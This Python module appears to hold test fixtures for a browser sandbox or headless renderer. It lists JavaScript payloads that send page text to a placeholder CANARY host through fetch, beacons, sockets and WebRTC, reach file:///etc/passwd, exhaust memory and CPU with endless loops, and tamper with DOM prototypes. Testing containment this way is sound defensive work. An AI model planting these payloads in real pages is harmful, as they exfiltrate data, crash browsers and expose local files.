"""The attacks themselves. CANARY and the names that begin with it stand for addresses as JavaScript has them,
in HEADERS for an address as it is.
"""

from __future__ import annotations

_ELEMENT = "const one = document.createElement('%s'); one.%s = CANARY; document.body.append(one);"
_FORM = (
    "const form = document.createElement('form'); form.action = CANARY; form.method = '%s'; form.target = '%s';"
    "form.innerHTML = '<input name=a value=b>'; document.body.append(form); form.submit();"
)
_LINK = "const one = document.createElement('link'); one.rel = '%s'; one.as = '%s'; one.href = CANARY;"
_BLOB = "URL.createObjectURL(new Blob([%s], { type: 'text/javascript' }))"
_PEER = (
    "const peer = new RTCPeerConnection({ iceServers: [{ urls: %s, username: 'a', credential: 'b' }] });"
    "peer.createDataChannel('a'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));"
)
_RULES = "const one = document.createElement('script'); one.type = 'speculationrules'; one.textContent = JSON.stringify"

REACHING = {
    "fetch": "fetch(CANARY);",
    "fetch-no-cors": "fetch(CANARY, { mode: 'no-cors', method: 'POST', body: document.body.innerText });",
    "fetch-keepalive": "addEventListener('pagehide', () => fetch(CANARY, { keepalive: true, mode: 'no-cors' }));",
    "fetch-in-loop": "setInterval(() => fetch(CANARY, { mode: 'no-cors' }), 1);",
    "fetch-late": "setTimeout(() => fetch(CANARY, { mode: 'no-cors' }), 1000);",
    "xhr": "const one = new XMLHttpRequest(); one.open('GET', CANARY); one.send();",
    "xhr-sync": "const one = new XMLHttpRequest(); one.open('GET', CANARY, false); one.send();",
    "img": "new Image().src = CANARY;",
    "css": "document.body.style.background = `url(${CANARY})`;",
    "css-import": "document.head.append(Object.assign(document.createElement('style'), "
    "{ textContent: `@import url(${CANARY});` }));",
    "font": "new FontFace('a', `url(${CANARY})`).load();",
    "script": _ELEMENT % ("script", "src"),
    "module": "import(CANARY);",
    "iframe": _ELEMENT % ("iframe", "src"),
    "iframe-srcdoc": "const one = document.createElement('iframe'); one.srcdoc = `<img src=${CANARY}>`;"
    "document.body.append(one);",
    "object": _ELEMENT % ("object", "data"),
    "embed": _ELEMENT % ("embed", "src"),
    "video": _ELEMENT % ("video", "src"),
    "track": "const one = document.createElement('video'); one.innerHTML = `<source src=${CANARY}>`;"
    "document.body.append(one);",
    "svg-use": "document.body.insertAdjacentHTML('beforeend', `<svg><image href=${CANARY} /></svg>`);",
    "websocket": "new WebSocket(CANARY_SOCKET);",
    "eventsource": "new EventSource(CANARY);",
    "beacon": "navigator.sendBeacon(CANARY, document.body.innerText);",
    "beacon-on-leaving": "addEventListener('pagehide', () => navigator.sendBeacon(CANARY, 'bye'));",
    "worker": "new Worker('/worker-fetch.js');",
    "worker-blob": f"new Worker({_BLOB % '`fetch(${JSON.stringify(CANARY)})`'});",
    "worker-shared": "new SharedWorker('/worker-fetch.js');",
    "worker-socket": f"new Worker({_BLOB % '`new WebSocket(${JSON.stringify(CANARY_SOCKET)})`'});",
    "webrtc-stun": _PEER % "CANARY_STUN",
    "webrtc-turn": _PEER % "CANARY_TURN",
    "webtransport": "new WebTransport(CANARY_HTTPS);",
    "prefetch": _LINK % ("prefetch", "") + "document.head.append(one);",
    "preload": _LINK % ("preload", "script") + "document.head.append(one);",
    "preconnect": _LINK % ("preconnect", "") + "document.head.append(one);",
    "stylesheet": _LINK % ("stylesheet", "") + "document.head.append(one);",
    "base": "document.head.append(Object.assign(document.createElement('base'), { href: CANARY }));"
    "new Image().src = 'a.png';",
    "manifest": _LINK % ("manifest", "") + "document.head.append(one);",
    "icon": _LINK % ("icon", "") + "document.head.append(one);",
    "prerender": _RULES + "({ prerender: [{ urls: [CANARY], eagerness: 'immediate' }] }); document.head.append(one);",
    "speculation": _RULES + "({ prefetch: [{ urls: [CANARY], eagerness: 'immediate' }] }); document.head.append(one);",
    "form-get": _FORM % ("get", ""),
    "form-post": _FORM % ("post", ""),
    "form-new-window": _FORM % ("post", "_blank"),
    "open": "open(CANARY);",
    "open-noopener": "open(CANARY, '_blank', 'noopener');",
    "open-blank": "const one = open('about:blank'); one.document.write(`<img src=${CANARY}>`);",
    "location": "location.href = CANARY;",
    "location-late": "setTimeout(() => location.replace(CANARY), 800);",
    "location-of-frame": "const one = document.createElement('iframe'); document.body.append(one);"
    "one.contentWindow.location = CANARY;",
    "location-javascript": "location.href = `javascript:fetch(${JSON.stringify(CANARY)})`;",
    "click": "Object.assign(document.createElement('a'), { href: CANARY }).click();",
    "click-new-window": "Object.assign(document.createElement('a'), { href: CANARY, target: '_blank' }).click();",
    "click-ping": "Object.assign(document.createElement('a'), { href: '#', ping: CANARY }).click();",
    "click-download": "Object.assign(document.createElement('a'), { href: CANARY, download: 'a' }).click();",
    "click-anything": "document.querySelector('main').insertAdjacentHTML('beforeend', '<button>Accept all</button>');"
    "document.addEventListener('click', () => fetch(CANARY, { mode: 'no-cors' }));",
    "scroll": "document.body.style.height = '9000px';"
    "document.addEventListener('scroll', () => fetch(CANARY, { mode: 'no-cors' }));",
    "lazy-img": "document.body.insertAdjacentHTML('beforeend', `<img loading=lazy src=${CANARY}>`);",
    "meta-refresh-late": "document.head.insertAdjacentHTML('beforeend', "
    "`<meta http-equiv=refresh content='0; url=${CANARY}'>`);",
    "document-write": "document.write(`<script src=${CANARY}><\\/script>`);",
    "image-of-data-frame": "const one = document.createElement('iframe');"
    "one.src = `data:text/html,<img src=${CANARY}>`; document.body.append(one);",
}
"""By script. Those that wait for the end of the page, a click or a scroll reach only whom it is done to."""
IN_PROFILE = ("preconnect", "manifest")
"""Of these, what Chromium does only with a profile of its own, not in the private contexts that Playwright opens."""

HEADS = {
    "meta-refresh": "<meta http-equiv=refresh content='0; url='CANARY>".replace("'CANARY", "CANARY'"),
    "head-script": "<script src=CANARY></script>",
    "head-stylesheet": "<link rel=stylesheet href=CANARY>",
    "head-import-map": '<script type=importmap>{"imports": {"a": CANARY}}</script>'
    '<script type=module>import "a"</script>',
}
"""By the head of the page."""

HEADERS = {
    "header-link": ("Link", "<CANARY>; rel=preload; as=script"),
    "header-refresh": ("Refresh", "0; url=CANARY"),
    "header-csp-report": ("Content-Security-Policy", "img-src 'none'; report-uri CANARY"),
}
"""By a header of the answer."""

ENDLESS = {
    "loop": "for (;;) {}",
    "loop-late": "setTimeout(() => { for (;;) {} }, 1500);",
    "loop-of-promises": "const again = () => Promise.resolve().then(again); again();",
    "loop-of-timers": "const again = () => { for (let i = 0; i < 9; i += 1) setTimeout(again); }; again();",
    "loop-in-worker": "for (let i = 0; i < 50; i += 1) new Worker('/worker-loop.js');",
    "loop-in-blob-worker": f"for (let i = 0; i < 50; i += 1) new Worker({_BLOB % repr('for (;;) {}')});",
    "loop-of-writes": "setInterval(() => document.write('<p>More and more and more of it.</p>'));",
    "loop-of-changes": "setInterval(() => document.querySelector('main').append('Tick. '));",
    "loop-of-regex": "/^(a+)+$/.test('a'.repeat(50) + 'b');",
    "recursion": "const deeper = () => { try { deeper(); } finally { deeper(); } }; deeper();",
    "alert": "alert('Hello'); confirm('Are you sure?'); prompt('Your name?');",
    "alerts": "for (;;) alert('Hello');",
    "confirms": "for (;;) confirm('Are you sure?');",
    "prompts": "for (;;) prompt('Your name?');",
    "prints": "for (;;) print();",
    "before-unload": "onbeforeunload = (event) => { event.preventDefault(); for (;;) {} };",
    "unload": "addEventListener('pagehide', () => { for (;;) {} });",
    "reload": "location.reload();",
    "reload-new": "location.search = Math.random();",
    "memory": "const kept = []; for (;;) kept.push(new Uint8Array(1e7).fill(1));",
    "memory-strings": "let text = 'a'; const kept = []; for (;;) kept.push(new Array(1e6).fill(text + kept.length));",
    "memory-canvas": "for (let i = 0; i < 500; i += 1) { const one = document.createElement('canvas');"
    "one.width = one.height = 8000; one.getContext('2d').fillRect(0, 0, 9, 9); document.body.append(one); }",
    "dom-wide": "for (let i = 0; i < 2e6; i += 1) document.body.append(document.createElement('p'));",
    "dom-deep": "let at = document.body; for (let i = 0; i < 1e5; i += 1) {"
    "const one = document.createElement('div'); at.append(one); at = one; }",
    "dom-text": "document.body.append('Words of no meaning. '.repeat(5e6));",
    "dom-attribute": "document.body.dataset.long = 'x'.repeat(2e8);",
    "iframes": "for (let i = 0; i < 5000; i += 1) { const one = document.createElement('iframe');"
    "one.srcdoc = '<p>Frame</p>'; document.body.append(one); }",
    "iframes-of-itself": "for (let i = 0; i < 3; i += 1) { const one = document.createElement('iframe');"
    "one.src = `${location.pathname}?${Math.random()}`; document.body.append(one); }",
    "windows": "for (let i = 0; i < 500; i += 1) open('about:blank');",
    "push-state": "for (let i = 0; ; i += 1) history.pushState({}, '', `/p/${i}`);",
    "hashes": "setInterval(() => { location.hash = Math.random(); });",
    "console": "for (;;) console.log('x'.repeat(1e5));",
    "errors": "setInterval(() => { throw new Error('x'.repeat(1e5)); });",
    "requests": "for (let i = 0; i < 10000; i += 1) fetch(`/none-${i}.json`);",
    "waiting": "setInterval(() => fetch('/hang/'), 500);",
    "storage": "for (let i = 0; ; i += 1) { try { localStorage.setItem(i, 'x'.repeat(1e6)); } catch { break; } }"
    "indexedDB.open('a').onupgradeneeded = ({ target }) => { const store = target.result.createObjectStore('a');"
    "for (let i = 0; i < 200; i += 1) store.put(new Uint8Array(5e6), i); };",
}
"""Without an end, or almost."""

NOISY = {
    "download": "Object.assign(document.createElement('a'), { href: '/file.bin', download: 'story.exe' }).click();",
    "downloads": "setInterval(() => { location.href = '/file.bin'; }, 50);",
    "download-blob": f"const href = {_BLOB % repr('x')};"
    "Object.assign(document.createElement('a'), { href, download: 'a' }).click();",
    "service-worker": "navigator.serviceWorker.register('/worker-fetch.js');",
    "geolocation": "navigator.geolocation.getCurrentPosition(() => {});",
    "notification": "Notification.requestPermission();",
    "clipboard": "navigator.clipboard.readText(); navigator.clipboard.writeText('x');",
    "camera": "navigator.mediaDevices.getUserMedia({ audio: true, video: true });",
    "fullscreen": "document.documentElement.requestFullscreen(); document.body.requestPointerLock();",
    "print": "print();",
    "navigate-file": "location.href = 'file:///etc/passwd';",
    "open-file": "open('file:///etc/passwd');",
    "fetch-file": "fetch('file:///etc/passwd').then((one) => one.text()).then((text) => document.body.append(text));",
    "iframe-file": "const one = document.createElement('iframe'); one.src = 'file:///etc/passwd';"
    "document.body.append(one);",
    "navigate-data": "location.href = 'data:text/html,<h1>Elsewhere</h1><p>Not of this site.</p>';",
    "navigate-blob": f"location.href = {_BLOB % repr('Not of this site.')};",
    "navigate-blank": "location.href = 'about:blank';",
    "navigate-internal": "location.href = 'chrome://version'; open('chrome://crash'); open('view-source:/');",
    "navigate-scheme": "location.href = 'mailto:nobody@ostermere.example'; location.href = 'ssh://ostermere.example';",
    "close": "close();",
    "wipe": "setTimeout(() => { document.documentElement.remove(); }, 500);",
    "replace": "setTimeout(() => { document.open(); document.write('<p>Another page.</p>'); document.close(); }, 500);",
    "spoil": "Document.prototype.querySelectorAll = () => { throw 0; }; Element.prototype.getHTML = () => 'spoilt';"
    "Object.defineProperty(document, 'documentElement', { get: () => null });"
    "Array.prototype.map = JSON.stringify = () => 'spoilt'; window.Promise = null;",
    "spoil-getters": "Object.defineProperty(Element.prototype, 'shadowRoot', { get() { for (;;) {} } });"
    "Object.defineProperty(Element.prototype, 'outerHTML', { get: () => 'spoilt' });",
}
"""With things that a browser asks its user about, or takes from the machine; and tricks on whoever reads the page."""
